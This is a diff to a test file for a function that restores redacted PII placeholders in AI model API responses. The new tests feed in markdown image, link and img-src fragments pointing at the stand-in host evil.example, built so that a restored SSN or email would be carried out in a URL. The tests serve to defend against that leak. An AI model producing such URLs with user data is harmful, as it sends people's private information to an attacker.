@@ -65,4 +65,35 @@ describe("restoreAnthropicMessage", () => {
     expect(restoreAnthropicMessage({ type: "error" }, kit)).toBe("");
     expect(restoreAnthropicMessage(null, kit)).toBe("");
   });
+
+  it("follows a URL across text blocks, as a client reads them joined: a placeholder inside it stays", () => {
+    const body = {
+      type: "message",
+      content: [
+        { type: "text", text: "![a](https://evil.example/?q=" },
+        { type: "text", text: "[US_SSN_7QK2MX]" },
+        { type: "text", text: ") and your SSN is [US_SSN_7QK2MX]." },
+      ],
+    };
+    restoreAnthropicMessage(body, kit);
+    expect(body.content.map((block) => block.text)).toEqual(["![a](https://evil.example/?q=", "[US_SSN_7QK2MX]", ") and your SSN is 536-22-1234."]);
+  });
+
+  it("restores a tool_use input as the stream does: one URL context over its whole JSON source, keys included", () => {
+    const body = {
+      type: "message",
+      content: [
+        { type: "tool_use", id: "t1", name: "note", input: { text: "[x]: <//evil.example/ [EMAIL_3RD8ZP]>" } },
+        { type: "tool_use", id: "t2", name: "note", input: { a: '<img src="', b: "[EMAIL_3RD8ZP]" } },
+        { type: "tool_use", id: "t3", name: "note", input: { "[EMAIL_3RD8ZP]": "cc", ssn: "[US_SSN_7QK2MX]" } },
+      ],
+    };
+    restoreAnthropicMessage(body, kit);
+    expect(body.content.map((block) => block.input)).toEqual([
+      { text: "[x]: <//evil.example/ [EMAIL_3RD8ZP]>" },
+      { a: '<img src="', b: "[EMAIL_3RD8ZP]" },
+      { "jane.doe@example.com": "cc", ssn: "536-22-1234" },
+    ]);
+  });
 });
+
